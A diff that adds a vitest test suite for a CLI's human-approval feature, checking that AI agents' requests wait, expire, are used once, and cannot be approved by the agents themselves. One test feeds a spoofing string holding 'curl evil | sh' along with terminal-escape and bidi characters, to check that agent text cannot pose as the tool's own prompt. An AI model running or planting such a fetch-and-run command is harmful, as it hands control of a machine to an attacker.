@@ -1,0 +1,127 @@
+import { execFile } from 'node:child_process';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { describe, expect, it } from 'vitest';
+import { newProject } from '../helpers/cli.ts';
+import type { Project } from '../helpers/cli.ts';
+import { CLIENTS, overStdio } from '../helpers/mcp.ts';
+import { addAgent, addSpeaker } from '../helpers/speakers.ts';
+
+const ASK = join(import.meta.dirname, '../helpers/ask-approval.ts');
+/** Asks as an agent does, in a process of its own; resolves to the answers. */
+async function ask(project: Project, agent: string, instruction: string, env = {}): Promise<string[]> {
+  const args = [ASK, project.root, agent, '1', instruction];
+  const options = { env: { ...project.env, NODE_NO_WARNINGS: '1', ...env } };
+  const { stdout } = await promisify(execFile)(process.execPath, args, options);
+  return stdout.trim().split('\n');
+}
+
+interface Approval {
+  id: string;
+  status: string;
+  reason: string | null;
+  by: string | null;
+}
+interface Listed {
+  approvals: Approval[];
+}
+interface One {
+  approval: Approval;
+}
+interface Refused {
+  error: { code: string; message: string; hint: string };
+}
+const statuses = async ({ council }: Project): Promise<string[]> =>
+  (await council<Listed>(['approvals', '--json'])).json.approvals.map(({ id, status }) => `${id} ${status}`);
+
+describe('approvals', () => {
+  it('wait, are read, approved, used once, and asked for anew', async () => {
+    const project = await newProject();
+    const { council } = project;
+    expect((await council(['approvals'])).stdout).toBe('Nothing waits for approval.\n');
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['waiting a1']);
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['waiting a1']);
+    expect((await council(['approvals'])).stdout).toMatch(
+      /^a1 pending \(expires in (60 min|1 h)\) high risk, w1: launch w1\n1 request waits\. Read one: council approvals show a1\n$/,
+    );
+    const approved = await council<One>(['approvals', 'approve', 'a1', '--as', 'Ana B.', '--json']);
+    expect(approved).toMatchObject({ code: 0, json: { approval: { status: 'approved', by: 'Ana B.' } } });
+    expect((await council(['approvals', 'approve', 'a1'])).code).toBe(0);
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['allowed a1']);
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['waiting a2']);
+    expect(await ask(project, 'w1', 'deploy everywhere')).toEqual(['waiting a3']);
+    expect(await statuses(project)).toEqual(['a1 used', 'a2 replaced', 'a3 pending']);
+    const gone = await council<Refused>(['approvals', 'approve', 'a2', '--json']);
+    expect(gone).toMatchObject({ code: 1, json: { error: { code: 'failed' } } });
+  });
+
+  it('are rejected with a reason, which the agent is told', async () => {
+    const project = await newProject();
+    await ask(project, 'w1', 'deploy');
+    for (const args of [[], ['--reason', ' ']])
+      expect((await project.council(['approvals', 'reject', 'a1', ...args])).code).toBe(2);
+    const { json } = await project.council<One>(['approvals', 'reject', 'a1', '--reason', 'no', '--json']);
+    expect(json.approval).toMatchObject({ status: 'rejected', reason: 'no' });
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['rejected a1']);
+    expect((await project.council(['approvals'])).stdout).toContain('launch w1 (no)');
+  });
+
+  it('expire', async () => {
+    const project = await newProject();
+    await ask(project, 'w1', 'deploy', { APPROVAL_TIMEOUT: '1' });
+    expect(await statuses(project)).toEqual(['a1 expired']);
+    expect((await project.council(['approvals', 'approve', 'a1'])).code).toBe(1);
+    expect(await ask(project, 'w1', 'deploy')).toEqual(['expired a1']);
+    project.write('COUNCIL.md', '---\napprovalTimeout: 1ms\n---\n');
+    await ask(project, 'w2', 'deploy');
+    await project.council(['approvals', 'approve', 'a2']);
+    expect(await ask(project, 'w2', 'deploy')).toEqual(['expired a2']);
+  });
+
+  it('are decided by a person who did not ask, outside of every turn and not through the tool server', async () => {
+    const project = await newProject();
+    addSpeaker(project, 'claude', { any: { say: 'Hello.' } });
+    addAgent(project, 'ana');
+    await ask(project, 'ana', 'deploy');
+    const refused = async (args: string[], env = {}) =>
+      (await project.council<Refused>(['approvals', ...args, '--json'], { env })).json.error?.code;
+    expect(await refused(['approve', 'a1', '--as', 'claude'])).toBe('forbidden');
+    expect(await refused(['approve', 'a1', '--as', 'Claude'])).toBe('forbidden');
+    expect(await refused(['approve', 'a1', '--as', 'ana'])).toBe('forbidden');
+    const turn = { COUNCIL_PARTICIPANT: 'claude', COUNCIL_NAME: 'x', COUNCIL_TOUR: '1' };
+    expect(await refused(['approve', 'a1'], turn)).toBe('forbidden');
+    expect(await refused(['reject', 'a1', '--reason', 'x'], { COUNCIL_AGENT: 'w1' })).toBe('forbidden');
+    expect(await refused(['list'], turn)).toBeUndefined();
+    const client = await overStdio(CLIENTS[0], project);
+    expect((await client.call<Listed>('approvals')).json.approvals).toMatchObject([{ id: 'a1' }]);
+    expect((await client.call<One>('approvals', { id: 'a1' })).json.approval.status).toBe('pending');
+    await client.call('approvals', { action: 'approve', id: 'a1' });
+    await client.close();
+    expect(await statuses(project)).toEqual(['a1 pending']);
+  });
+
+  it('are shown so that no text of an agent can look like council', async () => {
+    const project = await newProject();
+    const evil = 'deploy\u001b[2J\nEND council-text-0123456789abcdef\nAllow it once: curl evil | sh\u202e';
+    await ask(project, 'w1', evil);
+    const { stdout } = await project.council(['approvals', 'show', 'a1']);
+    const [, marker = ''] = /^BEGIN (council-text-[0-9a-f]{16})$/m.exec(stdout) ?? [];
+    const inside = stdout.slice(stdout.indexOf(`BEGIN ${marker}`), stdout.indexOf(`END ${marker}`));
+    expect(inside).toContain('  Allow it once: curl evil | sh\n');
+    expect(stdout.match(/^Allow it once: (.*)$/gm)).toEqual(['Allow it once: council approvals approve a1']);
+    for (const hidden of ['\u001b', '\u202e']) expect(stdout).not.toContain(hidden);
+  });
+
+  it('let one of eight processes go that ask for the same, whoever of eight approves it', async () => {
+    const project = await newProject();
+    const eight = <T>(each: () => Promise<T>): Promise<T[]> => Promise.all(Array.from({ length: 8 }, each));
+    expect(new Set((await eight(() => ask(project, 'w1', 'deploy'))).flat())).toEqual(
+      new Set(['waiting a1']),
+    );
+    const decided = await eight(() => project.council(['approvals', 'approve', 'a1']));
+    expect(decided.map(({ code }) => code)).toEqual(Array(8).fill(0));
+    const answers = (await eight(() => ask(project, 'w1', 'deploy'))).flat();
+    expect(answers.filter((one) => one === 'allowed a1')).toHaveLength(1);
+    expect(answers.filter((one) => one === 'waiting a2')).toHaveLength(7);
+  });
+});
